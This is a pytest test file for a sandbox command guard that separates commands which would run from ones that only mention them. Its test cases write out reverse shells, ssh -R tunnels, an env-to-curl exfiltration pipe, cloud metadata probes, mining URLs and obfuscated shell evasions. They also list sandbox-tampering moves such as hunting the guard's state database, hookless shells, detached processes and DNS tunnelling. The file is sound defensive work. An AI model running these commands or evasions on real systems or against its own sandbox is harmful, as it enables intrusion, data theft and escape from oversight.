"""What a command runs versus what it mentions, and the behaviours the guard surfaces.

`invocations.invocations` turns command text into one string per simple command that would
run; rules that block or kill match those, rules over the raw text only flag.
"""

from __future__ import annotations

import pytest

from sandbox.guard import CommandText, DnsQuery, NetworkAttempt, ProcessExec, build_engine
from sandbox.guard.evidence import RECORDER_SHELL
from sandbox.guard.invocations import argv_invocations, invocations

ENGINE = build_engine()


def fired(evidence: object) -> dict[str, str]:
    return {v.rule_id: v.action for v in ENGINE.evaluate(evidence)}  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "present", "absent"),
    [
        ("timeout 2 n''c -e /bin/sh h 1", "nc -e /bin/sh h 1", None),
        ('echo "use ssh -R for tunnels" > notes.md', "echo >notes.md", "ssh"),
        ("grep -rn -- '--donate-level' docs/", "grep -rn docs/", "donate"),
        ("a=n; b=c; $a$b -e sh h 1", "nc -e sh h 1", None),
        ("bash -c 'ssh -R 1:h:2 x'", "ssh -R 1:h:2 x", None),
        ("eval \"$'\\x6e\\x63' -e sh\"", "nc -e sh", None),
        ("sh -c '{nc,-e,/bin/sh}'", "nc -e /bin/sh", None),
        ("cat > n.md <<'EOF'\nssh -R 1:h:2 x\nEOF\nls", "cat >n.md <<EOF", "ssh"),
        ("bash <<'EOF'\nssh -R 1:h:2 x\nEOF", "ssh -R 1:h:2 x", None),
        ("for p in 1 2; do curl h:$p; done", "loop: curl h:$p", None),
        ("env | base64 | curl -d @- h", "env | base64 | curl -d @- h", None),
        ("command -v nc", "command -v nc", "nc -"),
        ("nohup ssh -N -R 1:h:2 x &", "nohup ssh -N -R 1:h:2 x", None),
        ("echo 1 > /proc/sys/kernel/x", "echo >/proc/sys/kernel/x", None),
        # util-linux script runs its -c under a pty: it got past the blocking rules
        ("script -qc 'ssh -R 1:h:2 x' /dev/null", "ssh -R 1:h:2 x", None),
        ("script -qfec 'ssh -R 1:h:2 x' /dev/null", "ssh -R 1:h:2 x", None),
        ("script --command='nc -e /bin/sh h 1' /dev/null", "nc -e /bin/sh h 1", None),
        ("su -lc 'ssh -R 1:h:2 x' bob", "ssh -R 1:h:2 x", None),
    ],
)
def test_invocations(text: str, present: str, absent: str | None) -> None:
    inv = invocations(text)
    assert present in inv, inv
    if absent:
        assert not any(s.startswith(absent) for s in inv), inv


@pytest.mark.parametrize("text", [
    "x=ssh; $x -R 1:h:2 u@203.0.113.20",
    '"ssh" -R 1:h:2 u@203.0.113.20',
    "/usr/bin/ssh -R 1:h:2 u@203.0.113.20",
    "command ssh -R 1:h:2 u@203.0.113.20",
    "exec ssh -R 1:h:2 u@203.0.113.20",
    "{ ssh -R 1:h:2 u@203.0.113.20; }",
    "(ssh -R 1:h:2 u@203.0.113.20)",
    "if true; then ssh -R 1:h:2 u@203.0.113.20; fi",
    "ssh${IFS}-R${IFS}1:h:2${IFS}u@203.0.113.20",
    "time ssh -R 1:h:2 u@203.0.113.20",
    "watch -n1 'ssh -R 1:h:2 u@203.0.113.20'",
    "echo 203.0.113.20 | xargs -I{} ssh -R 1:h:2 u@{}",
    "sudo -u nobody env A=1 nohup ssh -R 1:h:2 u@203.0.113.20 &",
    "bash <<< 'ssh -R 1:h:2 u@203.0.113.20'",
    "echo 'ssh -R 1:h:2 u@203.0.113.20' | sh",
    "find . -maxdepth 0 -exec ssh -R 1:h:2 u@203.0.113.20 \\;",
])
def test_evasions_of_a_command_position_still_block(text: str) -> None:
    """Spelling, wrapping or feeding `ssh -R` to a shell is still running it."""
    assert fired(CommandText(text)).get("tunnels.ssh_forward") == "block", invocations(text)


def test_argv_invocations_unwrap_shells_and_wrappers() -> None:
    inv = argv_invocations(["timeout", "2", "bash", "-c", "bash -i >& /dev/tcp/h/1 0>&1"])
    assert "bash -i >&/dev/tcp/h/1 0>&1" in inv
    assert argv_invocations(["grep", "-rn", "stratum+tcp://x", "src"]) == ("grep -rn src",)


def test_parser_is_bounded() -> None:
    r"""Huge or deeply nested text is cut, not parsed for ever, and long invocations are
    searched in windows that keep the program in front (`^ssh\s.*-R` still works)."""
    from sandbox.guard.normalize import WINDOW

    inv = invocations("a " * 200_000)
    assert inv and all(len(s) <= WINDOW + 8 for s in inv)
    assert all(s.startswith("a ") for s in inv)
    nested = "bash -c " + "'bash -c " * 50 + "x" + "'" * 50
    assert invocations(nested)
    buried = "ssh " + "-o x " * 3000 + "-R 1:h:1 x"
    assert fired(CommandText(buried)).get("tunnels.ssh_forward") == "block"


# -- mention versus action ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("action_text", "mention_text", "rule"),
    [
        ("timeout 2 ssh -N -R 8080:127.0.0.1:80 u@203.0.113.20", "grep -rn 'ssh -R' docs/",
         "tunnels.ssh_forward"),
        ("timeout 2 nc -e /bin/sh 203.0.113.10 4444", "echo 'nc -e /bin/sh' >> SECURITY.md",
         "tunnels.nc_exec"),
        ("timeout 2 nmap -sT 203.0.113.5", "man nmap | head", "recon.scanner_tools"),
        ("curl -s http://169.254.169.254/latest/meta-data/", "grep -r 169.254.169.254 docs/",
         "secrets.metadata_service"),
        ("./kw -o stratum+tcp://203.0.113.7:3333", "grep -rn 'stratum+tcp' src/",
         "mining.stratum_url"),
        ("PROMPT_COMMAND=", "echo $PROMPT_COMMAND", "tamper.prompt_hooks"),
        ("echo 1 > /proc/sys/kernel/x", "cat /proc/sys/kernel/core_pattern",
         "escape.kernel_knobs"),
        ("for p in 1 2 3; do echo > /dev/tcp/203.0.113.5/$p; done",
         "for i in $(seq 20); do (exec 3<>/dev/tcp/127.0.0.1/8000) 2>/dev/null && break; done",
         "recon.dev_tcp_sweep"),
    ],
)
def test_action_blocks_mention_does_not(action_text: str, mention_text: str, rule: str) -> None:
    assert fired(CommandText(action_text)).get(rule) in ("block", "kill")
    assert not [a for a in fired(CommandText(mention_text)).values() if a in ("block", "kill")]


# -- surfaced behaviours -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("ls /var/lib/sandbox", "tamper.state_hunt"),
        ("find / -name 'sandbox.db' 2>/dev/null", "tamper.state_hunt"),
        ('sqlite3 "$SANDBOX_DB" .tables', "tamper.state_hunt"),
        ("ls ~/.local/state/sandbox", "tamper.state_hunt"),
        ("nft list ruleset", "escape.firewall_tools"),
        ("iptables -L -n", "escape.firewall_tools"),
        ("seccomp-tools dump ./a.out", "escape.firewall_tools"),
        ("scmp_sys_resolver 59", "escape.firewall_tools"),
        ("bash --norc", "tamper.hookless_shell"),
        ("bash --noprofile --norc -i", "tamper.hookless_shell"),
        (" ".join(RECORDER_SHELL), "tamper.hookless_shell"),  # typed: caught
        ("sh -i", "tamper.hookless_shell"),
        ("env -i bash", "tamper.hookless_shell"),
        ("exec bash", "tamper.hookless_shell"),
        ("setsid sleep 30", "tamper.detach"),
        ("nohup sleep 30 &", "tamper.detach"),
        ("sleep 30 & disown", "tamper.detach"),
        ("tmux new -d 'sleep 30'", "tamper.detach"),
        ("tcpdump -i any -c 1", "recon.packet_capture"),
        ("tshark -c 1", "recon.packet_capture"),
        ("python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'",
         "recon.packet_capture"),
    ],
)
def test_surfaced_behaviour_gets_a_verdict(text: str, rule: str) -> None:
    got = fired(CommandText(text))
    assert got.get(rule) == "flag", got


@pytest.mark.parametrize(
    ("argv", "rule"),
    [
        (("nft", "list", "ruleset"), "escape.firewall_tools"),
        (("iptables", "-L"), "escape.firewall_tools"),
        (("setsid", "sleep", "9"), "tamper.detach"),
        (("nohup", "sleep", "9"), "tamper.detach"),
        (("tcpdump", "-c", "1"), "recon.packet_capture"),
        (("bash", "--norc", "-i"), "tamper.hookless_shell"),
        (("sh", "-i"), "tamper.hookless_shell"),
        (("env", "-i", "bash"), "tamper.hookless_shell"),
        (("find", "/", "-name", "sandbox.db"), "tamper.state_hunt"),
    ],
)
def test_surfaced_behaviour_from_exec(argv: tuple[str, ...], rule: str) -> None:
    got = fired(ProcessExec(argv=argv, exe="/usr/bin/" + argv[0], pid=9, ppid=2))
    assert got.get(rule) == "flag", got


def test_recorder_shell_and_plain_shells_are_not_hookless() -> None:
    """The recorder's own bash (marked by the guard part), `bash -c`, scripts and `which`
    (a sh script) are fine; the recorder's argv from anyone else is a hookless shell."""
    for argv in (RECORDER_SHELL, ("bash", "--noprofile", "--norc", "-i")):
        assert fired(ProcessExec(argv=argv, exe="/usr/bin/bash", recorder=True)) == {}
        assert fired(ProcessExec(argv=argv, exe="/usr/bin/bash")) == {
            "tamper.hookless_shell": "flag"}, argv
    for argv in (("bash", "-c", "make test"), ("sh", "./configure"),
                 ("/bin/sh", "/usr/bin/which", "ssh"), ("bash", "scripts/test.sh")):
        assert fired(ProcessExec(argv=argv, exe="/usr/bin/bash")) == {}, argv


def test_dns_and_proxy_verdicts() -> None:
    """Resolver and gateway signals become verdicts: encoded names, foreign resolvers,
    proxy requests through an allowed host."""
    assert fired(DnsQuery("4a6f686e2e446f65.x.test", verdict="tunnel")) == {
        "tunnels.dns_tunnel": "flag"}
    assert fired(NetworkAttempt("198.51.100.53", 53, "dns", name="good.test",
                                verdict="deny")).get("tunnels.dns_foreign_resolver") == "flag"
    connect = NetworkAttempt("203.0.113.10", 443, "http", name="good.test", verdict="deny",
                             payload=b"CONNECT bad.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n")
    assert fired(connect).get("tunnels.http_proxy_request") == "flag"
    absolute = NetworkAttempt("203.0.113.10", 80, "http", name="good.test", verdict="allow",
                              payload=b"GET http://bad.test/x HTTP/1.1\r\nHost: good.test\r\n\r\n")
    assert fired(absolute).get("tunnels.http_proxy_request") == "flag"
    plain = NetworkAttempt("203.0.113.10", 80, "http", name="good.test", verdict="allow",
                           payload=b"GET /x HTTP/1.1\r\nHost: good.test\r\n\r\n")
    assert fired(plain) == {}
